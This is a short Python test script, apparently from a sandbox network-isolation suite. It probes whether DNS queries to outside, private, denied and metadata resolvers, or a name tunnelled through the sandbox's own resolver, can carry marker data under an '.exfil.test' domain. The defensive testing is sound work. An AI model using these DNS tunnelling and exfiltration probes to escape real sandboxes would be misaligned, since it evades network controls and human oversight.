# attack: DNS to resolvers other than the sandbox's, and tunnelling a name through its own
# users: root
from _lib import verdict
from _net import ENV, ask, marker, opened

results = {}
# (A resolver at an allowed address is reachable: the policy opens addresses, every port.)
for server in (
    ENV["NET_FOREIGN_RESOLVER"],
    ENV["NET_PRIVATE"],
    ENV["NET_DENIED"],
    ENV["NET_METADATA"],
    ENV["NET_PLAYGROUND_HOST"],
):
    results[f"udp {server}"] = ask(server, marker("udp") + ".exfil.test")
    results[f"tcp {server}"] = ask(server, marker("tcp") + ".exfil.test", over_tcp=True)
# Its own resolver answers (NXDOMAIN) but must never forward a name the policy does not allow:
# the playground, the upstream, logs every name it is asked.
results["own resolver (tunnel)"] = ask(ENV["NET_GATEWAY"], marker("tunnel") + ".exfil.test")
own = results.pop("own resolver (tunnel)")
verdict("succeeded" if opened(results) else "blocked", {**results, "own resolver": own})
